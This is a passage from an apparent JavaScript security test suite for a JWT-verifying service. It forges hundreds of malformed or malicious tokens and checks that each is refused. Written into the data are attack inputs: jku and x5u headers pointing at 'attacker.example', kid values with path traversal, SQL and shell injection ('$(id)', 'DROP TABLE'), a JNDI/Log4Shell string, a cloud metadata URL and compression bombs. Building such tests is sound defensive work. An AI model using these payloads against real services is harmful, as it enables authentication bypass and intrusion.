        ['"your-256-bit-secret"', 'your-256-bit-secret'],
        ['"changeme"', 'changeme'],
        ['"undefined"', 'undefined'],
        ['"null"', 'null'],
        ['the name of the variable', 'JWT_SECRET'],
        ['the secret in capitals', SECRET.toUpperCase()],
        ['the secret and a line break', `${SECRET}\n`],
        ['white space and the secret', ` ${SECRET}`],
        ['the secret without its last byte', SECRET.slice(0, -1)],
        ['the first 32 bytes of the secret', SECRET.slice(0, 32)],
        ['the secret in base64', Buffer.from(SECRET).toString('base64')],
        ['the secret in base64url', part(SECRET)],
        ['the secret decoded from base64', Buffer.from(SECRET, 'base64')],
        ['the secret in hexadecimal', Buffer.from(SECRET).toString('hex')],
        ['the hash of the secret', createHash('sha256').update(SECRET).digest()],
        ['the secret twice', SECRET + SECRET],
        ['the secret in UTF-16', Buffer.from(SECRET, 'utf16le')],
        ['the public key of nobody', createPublicKey(rsa.privateKey).export({ format: 'der', type: 'pkcs1' })],
      ],
      ([name, secret]) => [`keyed with ${name}`, () => forge(HS256, luis(), { secret })],
    ),
  },

  'parts left out and changed': Object.fromEntries(
    [
      ['the payload left out', ([header, , signature]) => `${header}..${signature}`],
      ['the payload and its dot left out', ([header, , signature]) => `${header}.${signature}`],
      ['the header left out', ([, payload, signature]) => `.${payload}.${signature}`],
      ['the header and its dot left out', ([, payload, signature]) => `${payload}.${signature}`],
      ['header and signature left out', ([, payload]) => `.${payload}.`],
      ['the payload alone', ([, payload]) => payload],
      ['the header alone', ([header]) => `${header}..`],
      ['the signature alone', ([, , signature]) => `..${signature}`],
      ['header and payload exchanged', ([header, payload, signature]) => `${payload}.${header}.${signature}`],
      [
        'a claim changed',
        ([header, payload, signature]) =>
          `${header}.${part(Buffer.from(payload, 'base64url').toString().replace('"6"', '"1"'))}.${signature}`,
      ],
      [
        'a claim added',
        ([header, payload, signature]) =>
          `${header}.${part(Buffer.from(payload, 'base64url').toString().replace('{', '{"x":1,'))}.${signature}`,
      ],
      [
        'white space added to the payload',
        ([header, payload, signature]) => `${header}.${part(`${Buffer.from(payload, 'base64url')} `)}.${signature}`,
      ],
      ['a header member added', ([, payload, signature]) => `${part({ ...HS256, kid: '1' })}.${payload}.${signature}`],
      [
        'the header written in another order',
        ([, payload, signature]) => `${part({ typ: 'JWT', alg: 'HS256' })}.${payload}.${signature}`,
      ],
    ].map(([name, of]) => [name, () => of(forge(HS256, luis()).split('.'))]),
  ),

  'keys that the token brings along (RFC 8725 2.9, 3.10, CVE-2018-0114)': {
    'jwk, RSA': () => byLibrary('RS256', rsa, { jwk: jwkOf(rsa) }),
    'jwk, EC': () => byLibrary('ES256', ec, { jwk: jwkOf(ec) }),
    'jwk, Ed25519': () => byLibrary('EdDSA', ed, { jwk: jwkOf(ed) }),
    'jwk, symmetric': () => withHeader({ jwk: { kty: 'oct', k: part(OTHER), alg: 'HS256' } }, { secret: OTHER }),
    'jwk with an empty key': () => withHeader({ jwk: { kty: 'oct', k: '' } }, { secret: '' }),
    jwks: () => withHeader({ jwks: { keys: [{ kty: 'oct', k: part(OTHER) }] } }, { secret: OTHER }),
    jku: () => byLibrary('RS256', rsa, { jku: 'https://attacker.example/jwks.json', kid: '1' }),
    'jku with a fragment of a trusted host': () =>
      byLibrary('RS256', rsa, { jku: 'https://attacker.example/#login.example.com' }),
    'jku with credentials in the place of a host': () =>
      byLibrary('RS256', rsa, { jku: 'https://login.example.com@attacker.example/' }),
    'jku to the metadata of a cloud': () =>
      withHeader({ jku: 'http://169.254.169.254/latest/meta-data/' }, { secret: OTHER }),
    'jku as data': () =>
      withHeader({ jku: `data:application/json,{"keys":[{"kty":"oct","k":"${part(OTHER)}"}]}` }, { secret: OTHER }),
    'jku to a file': () => withHeader({ jku: 'file:///dev/null' }, { secret: '' }),
    x5u: () => byLibrary('RS256', rsa, { x5u: 'https://attacker.example/cert.pem' }),
    x5c: () => byLibrary('RS256', rsa, { x5c: [derOf(rsa).toString('base64')] }),
    'x5c, keyed with it': () => withHeader({ x5c: [derOf(rsa).toString('base64')] }, { secret: derOf(rsa) }),
    'x5t of a certificate of its own': () =>
      byLibrary('RS256', rsa, { x5t: createHash('sha1').update(derOf(rsa)).digest('base64url') }),
    'x5t#S256 of a certificate of its own': () =>
      byLibrary('RS256', rsa, { 'x5t#S256': createHash('sha256').update(derOf(rsa)).digest('base64url') }),
    ...named(
      [
        ['../../../../../../dev/null', ''],
        ['/dev/null', ''],
        ['../../../../proc/sys/kernel/randomize_va_space', '2\n'],
        ['file:///etc/hostname', ''],
        ['/etc/passwd%00.key', ''],
        ['', ''],
        ['0', ''],
        ['__proto__', ''],
        ['constructor', 'function Object() { [native code] }'],
        ["x' UNION SELECT 'attacked-key-attacked-key-attacked'--", 'attacked-key-attacked-key-attacked'],
        ["' OR 1=1;--", ''],
        ['1; DROP TABLE users', ''],
        ['JWT_SECRET_PREVIOUS', ''],
        ['| id', ''],
        ['$(id)', ''],
        ['{{7*7}}', '49'],
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack
        ['${jndi:ldap://attacker.example/a}', ''],
        ['https://attacker.example/key', OTHER],
        [part(OTHER), OTHER],
      ],
      ([kid, secret]) => [
        `kid ${kid} and the key that it would lead to (CVE-2021-41106)`,
        () => withHeader({ kid }, { secret }),
      ],
    ),
    ...named([1, true, null, ['1'], { $ne: 1 }], (kid) => [
      `kid ${JSON.stringify(kid)}, by another key`,
      () => withHeader({ kid }, { secret: OTHER }),
    ]),
    'a key in the claims': () =>
      forge(
        HS256,
        { ...luis(), jwk: { kty: 'oct', k: part(OTHER) }, cnf: { jwk: { kty: 'oct', k: part(OTHER) } } },
        { secret: OTHER },
      ),
  },

  'headers that must be understood (RFC 7515 4.1.11, RFC 7797, RFC 8725 3.11)': {
    ...named(
      [
        ['x'],
        ['exp'],
        ['alg'],
        ['b64'],
        ['sub', 'exp'],
        ['http://example.com/UNDEFINED'],
        [],
        [''],
        [1],
        'exp',
        '',
        null,
        true,
        false,
        0,
        {},
        { b64: true },
      ],
      (crit) => [
        `crit ${JSON.stringify(crit)}`,
        () => withHeader({ crit, x: 1, exp: now() + 3600, 'http://example.com/UNDEFINED': true }),
      ],
    ),
    'crit with nothing that it names': () => withHeader({ crit: ['exp'] }),
    'crit spelt with an escape': () => forge('{"alg":"HS256","cr\\u0069t":["x"],"x":1}', luis()),
    'b64 false, critical, with a payload as it stands': () =>
      signed(`${part({ ...HS256, b64: false, crit: ['b64'] })}.${claims()}`),
    'b64 false, critical, with a payload in base64': () => withHeader({ b64: false, crit: ['b64'] }),
    'b64 false with a payload as it stands': () => signed(`${part({ ...HS256, b64: false })}.${claims()}`),
    'b64 false with a detached payload': () =>
      ((text) => `${part({ ...HS256, b64: false, crit: ['b64'] })}..${mac(text).toString('base64url')}`)(
        `${part({ ...HS256, b64: false, crit: ['b64'] })}.${claims()}`,
      ),
    'a detached payload': () => forge(HS256, luis()).replace(/\.[^.]*\./, '..'),
    ...named(
      [
        ['DEF', deflateRawSync],
        ['DEF', deflateSync],
        ['GZIP', gzipSync],
      ],
      ([zip, pack]) => [
        `zip ${zip}, packed by ${pack.name}`,
        () => forge({ ...HS256, zip }, pack(Buffer.from(claims()))),
      ],
    ),
    'a compressed bomb': () => forge({ ...HS256, zip: 'DEF' }, deflateRawSync(Buffer.alloc(4_000_000, 'A'))),
    ...named(
      [
        'JWE',
        'JOSE',
        'JOSE+JSON',
        'at+jwt',
        'application/at+jwt',
        'id+jwt',
        'refresh+jwt',
        'rt+jwt',
        'logout+jwt',
        'dpop+jwt',
        'secevent+jwt',
        'oauth-authz-req+jwt',
        'kb+jwt',
        'vc+sd-jwt',
        'SAML',
        'JWT2',
        'XJWT',
        'JW',
        'JWT ',
        ' JWT',
        'JWT\0',
        'JWT;x',
        'JWT,JWT',
        'ＪＷＴ',
        'JꓪT',
        'J\u200bWT',
        '',
        ' ',
        'null',
        '\0',
      ],
      (typ) => [`typ ${JSON.stringify(typ)}`, () => forge({ alg: 'HS256', typ }, luis())],
    ),
    ...named([7, null, true, ['JWT'], { typ: 'JWT' }, [], 0, false], (typ) => [
      `typ as ${JSON.stringify(typ)}`,
      () => forge({ alg: 'HS256', typ }, luis()),
    ]),
  },

  'nested and encrypted tokens (RFC 8725 2.3, 2.5, 3.3, CVE-2022-3102, CVE-2023-51774, CVE-2022-39227)': {
    'a token in a token, cty JWT': () => forge({ ...HS256, cty: 'JWT' }, forge(HS256, luis())),
    'a token in a token, without cty': () => forge(HS256, forge(HS256, luis())),
    'an unsigned token in a token': () =>
      forge({ ...HS256, cty: 'JWT' }, forge({ alg: 'none' }, luis(), { signature: '' })),
    'a good token in an unsigned one': () =>
      forge({ alg: 'none', cty: 'JWT' }, forge(HS256, luis()), { signature: '' }),
    'a token in a token as a JSON text': () => forge({ ...HS256, cty: 'JWT' }, JSON.stringify(forge(HS256, luis()))),
    'a token ten deep': () => {
      let inner = part(luis());
      for (let depth = 0; depth < 10; depth++) inner = forge({ ...HS256, cty: 'JWT' }, inner.slice(0, 400));
      return inner;
    },
    'cty JWT over claims that are none': () => forge({ ...HS256, cty: 'JWT' }, '"x"'),
    'dir, under the secret': () =>
      new EncryptJWT(luis())
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', typ: 'JWT' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    'dir, with a token inside': () =>
      new CompactEncrypt(Buffer.from(forge(HS256, luis())))
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    'A256KW, under the secret': () =>
      new EncryptJWT(luis())
        .setProtectedHeader({ alg: 'A256KW', enc: 'A128CBC-HS256' })
        .encrypt(Buffer.from(SECRET).subarray(0, 32)),
    'RSA-OAEP, under a key of its own': () =>
      new EncryptJWT(luis()).setProtectedHeader({ alg: 'RSA-OAEP', enc: 'A128GCM' }).encrypt(rsa.publicKey),
    'ECDH-ES on a curve of its own': () =>
      new EncryptJWT(luis()).setProtectedHeader({ alg: 'ECDH-ES', enc: 'A128GCM' }).encrypt(ec.publicKey),
    'PBES2 with a billion rounds (CVE-2023-50967)': () => {
      const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_000_000_000, p2s: 'AAAAAAAAAAA' };
      return `${part(header)}.AAAA.AAAA.AAAA.AAAA`;
    },
    'a compressed bomb in a JWE (CVE-2024-33664)': () => {
      const bomb = deflateRawSync(Buffer.alloc(1_000_000, 'A')).toString('base64url');
      return `${part({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' })}..AAAA.${bomb}.AAAA`;
    },
    'five empty parts': () => '....',
    'HS256 with five parts': () => `${forge(HS256, luis())}.e30.e30`,
    'HS256 with four parts': () => `${forge(HS256, luis())}.e30`,
    'two tokens grown together': () => `${forge(HS256, luis())}.${forge(HS256, luis())}`,
    'an empty part before it': () => `.${forge(HS256, luis())}`,
    'the JSON serialization': async () =>
      JSON.stringify(
        await new FlattenedSign(Buffer.from(claims())).setProtectedHeader(HS256).sign(Buffer.from(SECRET)),
      ),
    'the JSON serialization, general': async () =>
      JSON.stringify(
        await new GeneralSign(Buffer.from(claims())).addSignature(Buffer.from(SECRET)).setProtectedHeader(HS256).sign(),
      ),
    'the JSON serialization in base64': async () =>
      part(await new FlattenedSign(Buffer.from(claims())).setProtectedHeader(HS256).sign(Buffer.from(SECRET))),
    'the JSON serialization with an unprotected header': () =>
      ((text) =>
        JSON.stringify({ payload: part(claims()), header: HS256, signature: mac(text).toString('base64url') }))(
        `.${part(claims())}`,
      ),
    'a polyglot of both serializations (CVE-2022-39227)': () => {
      const [header, payload, signature] = forge(HS256, luis()).split('.');
      const compact = `  ${header}.${part({ ...luis(), sub: '1' })}.`;
      return `{"${compact}":"","protected":"${header}","payload":"${payload}","signature":"${signature}"}`;
    },
    'a list of tokens': () => JSON.stringify([forge(HS256, luis())]),
    'a token in quotes': () => `"${forge(HS256, luis())}"`,
    'a token in angle brackets': () => `<${forge(HS256, luis())}>`,
    'a CWT': () =>
      part(
        Buffer.from(
          'd28443a10105a0582aa1061a5612aeb00158200000000000000000000000000000000000000000000000000000000000000000',
          'hex',
        ),
      ),
    'claims in CBOR': () => forge({ ...HS256, cty: 'CBOR' }, Buffer.from('a2637375626136636578701a7fffffff', 'hex')),
    'a PASETO': () => `v4.local.${part('x'.repeat(60))}`,
    'a SAML assertion': () =>
      part(
        '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">' +
          '<saml:Subject>6</saml:Subject></saml:Assertion>',
      ),
  },

  'duplicates (RFC 7515 5.2, RFC 7519 4)': {
    ...named(['alg', 'typ', 'crit', 'kid', 'jku', 'x5u', 'cty'], (name) => [
      `two of the header's ${name}`,
      () =>
        forge(
          `{"alg":"HS256","typ":"JWT","crit":["x"],"kid":"1","jku":"a","x5u":"a","cty":"JSON","${name}":"x"}`.replace(
            name === 'crit' ? '' : '"crit":["x"],',
            '',
          ),
          luis(),
        ),
    ]),
    'none before HS256': () => forge('{"alg":"none","alg":"HS256"}', luis()),
    'HS256 before none': () => forge('{"alg":"HS256","alg":"none"}', luis()),
    'HS256 before none, unsigned': () => forge('{"alg":"HS256","alg":"none"}', luis(), { signature: '' }),
    'HS256 twice': () => forge('{"alg":"HS256","alg":"HS256"}', luis()),
    'HS256 twice, once escaped': () => forge('{"alg":"HS256","\\u0061lg":"HS256"}', luis()),
    ...named(
      [
        ['sub', '"5"'],
        ['sub', '"6"'],
        ['exp', '9999999999'],
        ['exp', '1'],
        ['nbf', '1'],
        ['iat', '1'],
        ['user_id', '6'],
        ['idUser', '6'],
        ['type', '"access"'],
        ['type', '"refresh"'],
        ['token_type', '"access"'],
        ['iss', '"a"'],
        ['aud', '"a"'],
      ],
      ([name, text]) => [
        `a second ${name} of ${text}`,
        () =>
          forge(
            HS256,
            `{"sub":"6","exp":${now() + 3600},"nbf":1,"iat":1,"user_id":6,"idUser":6,"type":"access",` +
              `"token_type":"access","iss":"a","aud":"a","${name}":${text}}`,
          ),
      ],
    ),
    'a second sub, escaped': () => forge(HS256, `{"sub":"6","\\u0073ub":"5","exp":${now() + 3600}}`),
    'an expired exp before a good one': () => forge(HS256, `{"sub":"6","exp":1,"exp":${now() + 3600}}`),
    'a good exp before an expired one': () => forge(HS256, `{"sub":"6","exp":${now() + 3600},"exp":1}`),
  },

  'size and depth (CVE-2025-30204)': {
    'claims of 100 KiB, rightly signed': () => forge(HS256, { ...luis(), pad: 'A'.repeat(75 * 1024) }),
    'a header of 100 KiB, rightly signed': () => withHeader({ pad: 'A'.repeat(75 * 1024) }),
    'a signature of 100 KiB': () => forge(HS256, luis(), { signature: 'A'.repeat(100 * 1024) }),
    '100 KiB of A': () => 'A'.repeat(100 * 1024),
    '100 KiB of dots': () => '.'.repeat(100 * 1024),
    '100 KiB of equals signs': () => '='.repeat(100 * 1024),
    '100 KiB of spaces in the middle': () => forge(HS256, luis()).replace('.', `${' '.repeat(100 * 1024)}.`),
    '8 KiB of dots': () => '.'.repeat(8 * 1024),
    '8 KiB of dots behind a good token': () => forge(HS256, luis()) + '.'.repeat(7 * 1024),
    'ten thousand claims, rightly signed': () =>
      forge(HS256, { ...luis(), ...Object.fromEntries(Array.from({ length: 7000 }, (_, at) => [`c${at}`, 0])) }),
    ...Object.fromEntries(
      [
        ['[', ']'],
        ['{"":', '}'],
      ].flatMap(([open, close]) =>
        [500, 1400].flatMap((levels) => [
          [
            `an unknown claim of ${levels} ${open[0]}, rightly signed`,
            () => forge(HS256, claims({ x: open.repeat(levels) + (close === '}' ? '0' : '') + close.repeat(levels) })),
          ],
          [
            `an unknown header member of ${levels} ${open[0]}, rightly signed`,
            () =>
              forge(
                `{"alg":"HS256","x":${open.repeat(levels)}${close === '}' ? '0' : ''}${close.repeat(levels)}}`,
                luis(),
              ),
          ],
          [
            `a sub of ${levels} ${open[0]}`,
            () =>
              forge(HS256, claims({ sub: open.repeat(levels) + (close === '}' ? '0' : '') + close.repeat(levels) })),
          ],
        ]),
      ),
    ),
    'a header of 5000 brackets': () => forge('['.repeat(5000), luis()),
    'a payload of 5000 brackets': () => forge(HS256, '['.repeat(5000)),
    'an exp of 4000 digits': () => withClaims({ exp: '9'.repeat(4000) }),
    'a sub of 4000 digits': () => withClaims({ sub: '6'.repeat(4000) }),
    'a sub of 4000 digits as text': () => withClaims({ sub: `"${'6'.repeat(4000)}"` }),
    'an exp of 4000 decimals': () => withClaims({ exp: `${now() + 3600}.${'1'.repeat(4000)}` }),
  },

  'base64 (RFC 7515 2, RFC 4648 3)': {
    'padding on the header, rightly signed': () => resigned((header, payload) => `${padded(header)}.${payload}`),
    'padding on the payload, rightly signed': () => resigned((header, payload) => `${header}.${padded(payload)}`),
    'padding on the signature': () => `${forge(HS256, luis())}=`,
    'too much padding on the signature': () => `${forge(HS256, luis())}====`,
    'padding on every part, rightly signed': () =>
      `${resigned((header, payload) => `${padded(header)}.${padded(payload)}`)}=`,
    'padding as %3D': () => `${forge(HS256, luis())}%3D`,
    ...named([1, 2, 3], (by) => [
      `the signature's left-over bits set to ${by}`,
      () =>
        ((text) => text.slice(0, text.lastIndexOf('.') + 1) + leftover(text.split('.')[2], by))(forge(HS256, luis())),
    ]),
    "the header's left-over bits, rightly signed": () =>
      resigned((header, payload) => `${leftover(header)}.${payload}`),
    "the payload's left-over bits, rightly signed": () =>
      resigned((header, payload) => `${header}.${leftover(payload)}`),
    'the standard alphabet in the signature': () =>
      dashed().replace(/[^.]*$/, (text) => text.replaceAll('-', '+').replaceAll('_', '/')),
    'the standard alphabet in the payload, rightly signed': () =>
      ((payload) => signed(`${part(HS256)}.${payload}`))(
        Buffer.from(claims({ x: '"~~~???>>>ÿÿÿ"' }))
          .toString('base64')
          .replaceAll('=', ''),
      ),
    'the standard alphabet in the header, rightly signed': () =>
      ((header) => signed(`${header}.${part(luis())}`))(
        Buffer.from('{"alg":"HS256","x":"~~~???>>>ÿÿÿ"}').toString('base64').replaceAll('=', ''),
      ),
    'both alphabets in one signature': () => dashed().replace(/[^.]*$/, (text) => text.replace('-', '+')),
    'a payload of a length that no base64 has, rightly signed': () =>
      resigned((header, payload) => `${header}.${payload.slice(0, payload.length - (payload.length % 4))}A`),
    ...Object.fromEntries(
      [
        [' ', 'a space'],
        ['\t', 'a tab'],
        ['=', 'an equals sign'],
        ['%20', '%20'],
        ['%0A', '%0A'],
        ['\\n', 'an escape'],
        ['\\1', 'an octal escape (CVE-2022-25898)'],
        ['~', 'a tilde'],
        ['*', 'a star'],
        ['!', 'an exclamation mark'],
        [',', 'a comma'],
        [':', 'a colon'],
        ['"', 'a quote'],
        ['\u00a0', 'a no-break space'],
        ['\u00ad', 'a soft hyphen'],
        ['\u0085', 'a next line'],
        ['ÿ', 'a byte 255'],
        [latin1('\u200b'), 'a zero-width space'],
        [latin1('Ａ'), 'a wide A'],
      ].flatMap(([text, name]) => [
        [
          `${name} in the header`,
          () => resigned((header, payload) => `${header.slice(0, 4)}${text}${header.slice(4)}.${payload}`),
        ],
        [
          `${name} in the payload`,
          () => resigned((header, payload) => `${header}.${payload.slice(0, 4)}${text}${payload.slice(4)}`),
        ],
        [`${name} in the signature`, () => forge(HS256, luis()).replace(/.{4}$/, (end) => text + end)],
        [
          `${name} before the token`,
          () =>
            (text === ' ' || text === '\t' ? '' : text) +
            forge(HS256, luis()) +
            (text === ' ' || text === '\t' ? `${text}x` : ''),
        ],
        [`${name} behind the token`, () => `${forge(HS256, luis())}${text}${text === ' ' || text === '\t' ? '.' : ''}`],
        [`${name} around a dot`, () => forge(HS256, luis()).replace('.', `${text}.${text}`)],
      ]),
    ),
    'other dots': () => latin1(forge(HS256, luis()).replace('.', '。').replace('.', '．')),
    'commas in the place of dots': () => forge(HS256, luis()).replaceAll('.', ','),
    'percent-encoded dots': () => forge(HS256, luis()).replaceAll('.', '%2E'),
    'the whole token in base64': () => part(forge(HS256, luis())),
    'parts in base64 twice, rightly signed': () => signed(`${part(part(HS256))}.${part(part(luis()))}`),
    'parts in hexadecimal, rightly signed': () =>
      signed(`${Buffer.from(JSON.stringify(HS256)).toString('hex')}.${Buffer.from(claims()).toString('hex')}`),
    'parts as they stand, rightly signed': () => signed(`${JSON.stringify(HS256)}.${claims()}`),
  },

  'text that is no object (RFC 8725 2.6, 3.7)': Object.fromEntries(
    [
      ['empty', ''],
      ['a space', ' '],
      ['a list', '[]'],
      ['a list of it', null],
      ['a text', '"HS256"'],
      ['a number', '1'],
      ['null', 'null'],
      ['true', 'true'],
      ['no JSON', 'sub=6'],
      ['XML', '<sub>6</sub>'],
      ['YAML', 'alg: HS256\nsub: "6"\nexp: 9999999999'],
      ['an object without its end', '{'],
      ['NUL', '\0'],
    ]
      .flatMap(([name, text]) => [
        [`a header that is ${name}`, () => forge(text ?? [HS256], luis())],
        [`a payload that is ${name}`, () => forge(HS256, text ?? [luis()])],
      ])
      .concat(
        [
          ['a byte order mark', (text) => `\ufeff${text}`],
          ['UTF-16', (text) => Buffer.from(text, 'utf16le')],
          ['UTF-16 with its mark', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')],
          ['text behind it', (text) => `${text}x`],
          ['another object behind it', (text) => text + text],
          ['NUL behind it', (text) => `${text}\0`],
          ['a comma before its end', (text) => text.replace(/\}$/, ',}')],
          ['a comment', (text) => `/**/${text}`],
          ['single quotes', (text) => text.replaceAll('"', "'")],
          ['a byte that is no UTF-8', (text) => Buffer.from(text.replace(/\}$/, ',"x":"\xff"}'), 'latin1')],
          ['an overlong sequence', (text) => Buffer.from(text.replace(/\}$/, ',"x":"\xc0\xaf"}'), 'latin1')],
          ['a surrogate in UTF-8', (text) => Buffer.from(text.replace(/\}$/, ',"x":"\xed\xa0\xbd"}'), 'latin1')],
          ['a line break in a text', (text) => text.replace(/\}$/, ',"x":"a\nb"}')],
          ['a control character in a text', (text) => text.replace(/\}$/, ',"x":"a\x01b"}')],
          ['an unknown escape', (text) => text.replace(/\}$/, ',"x":"\\x41"}')],
          ['bare names', (text) => text.replace(/"(\w+)":/g, '$1:')],
          ['a vertical tab before it', (text) => `\v${text}`],
          ['a no-break space before it', (text) => `\u00a0${text}`],
        ].flatMap(([name, of]) => [
          [`a header with ${name}`, () => forge(of(JSON.stringify(HS256)), luis())],
          [`a payload with ${name}`, () => forge(HS256, of(claims()))],
        ]),
      ),
  ),

  'dates that are none (RFC 7519 4.1.4–4.1.6)': Object.fromEntries(
    Object.entries({ exp: 3600, nbf: -3600, iat: -3600 }).flatMap(([claim, by]) =>
      [
        ['a fraction', () => `${now() + by}.5`],
        ['a float of a whole number', () => `${now() + by}.0`],
        ['an exponent', () => `${(now() + by) / 1e9}e9`],
        ['text', () => `"${now() + by}"`],
        ['a date as text', () => `"${new Date((now() + by) * 1000).toISOString()}"`],
        ['a list', () => `[${now() + by}]`],
        ['an object', () => `{"$date":${now() + by}}`],
        ['a sum', () => `${now() + by}+1`],
        ['hexadecimal', () => `0x${(now() + by).toString(16)}`],
        ['a leading zero', () => `0${now() + by}`],
        ['a plus sign', () => `+${now() + by}`],
        ...[
          '-1',
          '-9999999999',
          '-1.5',
          '-9007199254740991',
          '-9223372036854775808',
          '-1e308',
          '1e308',
          '1e309',
          '1e-400',
          '9007199254740991',
          '9007199254740992',
          '9007199254740993',
          '9223372036854775807',
          '9223372036854775808',
          '18446744073709551615',
          '18446744073709551616',
          'NaN',
          '"NaN"',
          'Infinity',
          '-Infinity',
          '"Infinity"',
          'null',
          '""',
          '"x"',
          '"never"',
          'true',
          'false',
          '[]',
          '{}',
        ].map((text) => [text, () => text]),
      ].map(([name, text]) => [`${claim} as ${name}`, () => withClaims({ [claim]: text() })]),
    ),
  ),

  'dates that are not now': {
    'without exp': () => withClaims({ exp: undefined }),
    'exp spelt in capitals': () => withClaims({ exp: undefined, EXP: now() + 3600 }),
    'exp in another object': () => withClaims({ exp: undefined, claims: `{"exp":${now() + 3600}}` }),
    'exp behind a prototype': () =>
      // biome-ignore lint/suspicious/noDuplicateObjectKeys: the first sets the prototype, the second is a key
      withClaims({ exp: undefined, __proto__: null, ['__proto__']: `{"exp":${now() + 3600}}` }),
    'exp in the header': () => forge({ ...HS256, exp: now() + 3600 }, claims({ exp: undefined })),
    'exp 0': () => withClaims({ exp: '0' }),
    'exp 1': () => withClaims({ exp: '1' }),
    'expired an hour ago': () => withClaims({ exp: now() - 3600 }),
    'expired 61 s ago': () => withClaims({ exp: now() - 61 }),
    'valid in an hour': () => withClaims({ nbf: now() + 3600 }),
    'valid in 2^32': () => withClaims({ nbf: 2 ** 32 }),
    'issued in an hour': () => withClaims({ iat: now() + 3600 }),
    'issued in milliseconds': () => withClaims({ iat: Date.now() }),
    'valid in milliseconds': () => withClaims({ nbf: Date.now() }),
    'all three wrong': () => withClaims({ exp: 1, nbf: 4e9, iat: 4e9 }),
  },

  'subjects that are none (RFC 8725 3.8)': {
    ...Object.fromEntries(
      ['sub', 'user_id', 'idUser'].flatMap((claim) =>
        [
          '0',
          '-1',
          '-6',
          '1.5',
          '6.0',
          '6e0',
          '0.6e1',
          '1e308',
          '9007199254740992',
          '9223372036854775813',
          '18446744073709551622',
          '-0',
          '"abc"',
          '""',
          '"0"',
          '"000"',
          '"-6"',
          '"+6"',
          '"6.0"',
          '" 6"',
          '"6 "',
          '"6\\n"',
          '"6\\u0000"',
          '"0x6"',
          '"6e0"',
          '"٦"',
          '"６"',
          '"²"',
          '"6,5"',
          '"6;5"',
          '"6 OR 1=1"',
          '"9007199254740992"',
          '"18446744073709551622"',
          'null',
          'true',
          '[6]',
          '["6"]',
          '{"id":6}',
          '{"$gt":0}',
          '[]',
          '{}',
        ].map((text) => [`${claim} ${text}`, () => withClaims({ sub: undefined, [claim]: text })]),
      ),
    ),
    ...named(['null', '""', '0', '"abc"', '[6]', '6.5', '5', '"5"', 'false'], (text) => [
      `a good sub beside user_id ${text}`,
      () => withClaims({ user_id: text }),
    ]),
    'no claims at all but exp': () => withClaims({ sub: undefined }),
    'an empty payload object': () => forge(HS256, {}),
    ...named(
      [
        'SUB',
        'Sub',
        'sub ',
        'subject',
        'uid',
        'id',
        'userId',
        'iduser',
        'IDUSER',
        'User_id',
        'user',
        'username',
        'email',
        'profile',
        'nameid',
        '__proto__',
      ],
      (claim) => [
        `the subject as ${claim}`,
        () =>
          withClaims({
            sub: undefined,
            [claim]: claim === 'profile' || claim === '__proto__' ? '{"id":6,"sub":"6"}' : '"6"',
          }),
      ],
    ),
    'the subject in the header': () => forge({ ...HS256, sub: '6' }, claims({ sub: undefined })),
  },

  'tokens for something else (RFC 8725 2.8, 3.12)': {
    ...Object.fromEntries(
      ['type', 'token_type'].flatMap((claim) =>
        [
          '"refresh"',
          '"Access"',
          '"ACCESS"',
          '"access "',
          '" access"',
          '"access\\u0000"',
          '"аccess"',
          '"accеss"',
          '"access_token"',
          '"id"',
          '"reset"',
          '"sliding"',
          '"Bearer"',
          '"bearer"',
          '""',
          'null',
          'true',
          '1',
          '["access"]',
          '["access","refresh"]',
          '{}',
        ].map((text) => [`${claim} ${text}`, () => withClaims({ [claim]: text })]),
      ),
    ),
    'type access beside token_type refresh': () => withClaims({ type: '"access"', token_type: '"refresh"' }),
    'type refresh beside token_type access': () => withClaims({ type: '"refresh"', token_type: '"access"' }),
    ...named(Object.keys(LAYOUTS), (layout) => [
      `a refresh token in the ${layout} layout`,
      () => token(6, { layout, extra: { type: 'refresh' } }),
    ]),
  },
};

let vectors = 0;
for (const [family, table] of Object.entries(ATTACKS)) {
  describe(family, () => {
    for (const [name, mint] of Object.entries(table)) {
      vectors++;
      test(`${name} [A2 A3 A4 A5 A6 A8]`, async () => refusesToken(await mint()));
    }
  });
}

describe('the header (RFC 6750 2.1)', () => {
  const good = () => forge(HS256, luis());
  const missing = {
    ...named(
      [
        'Basic',
        'Token',
        'JWT',
        'DPoP',
        'MAC',
        'Digest',
        'Negotiate',
        'OAuth',
        'Hawk',
        'Bearer:',
        'Bearer,',
        'Bearer=',
        'Bearer;',
        'XBearer',
        'Bearerx',
        'Bear',
        '"Bearer"',
        latin1('Ｂearer'),
        latin1('Веarer'),
        latin1('BEARE\u0280'),
      ],
      (scheme) => [`the scheme ${JSON.stringify(scheme)}`, () => `${scheme} ${good()}`],
    ),
    'a tab in the place of the space': () => `Bearer\t${good()}`,
    'a no-break space in the place of the space': () => `Bearer\u00a0${good()}`,
    'another scheme before Bearer': () => `Basic x, Bearer ${good()}`,
    'another scheme before Bearer, without a comma': () => `Token Bearer ${good()}`,
    'the token before the scheme': () => `${good()} Bearer`,
  };
  for (const [name, of] of Object.entries(missing))
    test(`${name} is no token [A1 A8]`, () => refusedAsUsual({ headers: { authorization: of() } }, 'missing'));
  const bad = {
    'Bearer twice': () => `Bearer Bearer ${good()}`,
    'Bearer twice in small letters': () => `bearer bearer ${good()}`,
    'two tokens': () => `Bearer ${good()}, Bearer ${good()}`,
    'a word behind the token': () => `Bearer ${good()} x`,
    'dots alone': () => 'Bearer ..',
    'two tokens behind one scheme': () => `Bearer ${good()} ${good()}`,
    'two tokens and a comma behind one scheme': () => `Bearer ${good()},${good()}`,
    'another scheme behind the token': () => `Bearer ${good()}, Basic x`,
    'a parameter': () => `Bearer token="${good()}"`,
    'a parameter behind the token': () => `Bearer ${good()}; realm="x"`,
    'a token after an empty one': () => `Bearer , Bearer ${good()}`,
    'a text in quotes': () => `Bearer "${good()}"`,
    'a tab before the token': () => `Bearer \t${good()}`,
    'a tab within the token': () => `Bearer ${good().replace('.', '\t.')}`,
  };
  for (const [name, of] of Object.entries(bad))
    test(`${name} is a bad token [A3 A8]`, () => refusedAsUsual({ headers: { authorization: of() } }));
});

describe('header lines that no client library sends', () => {
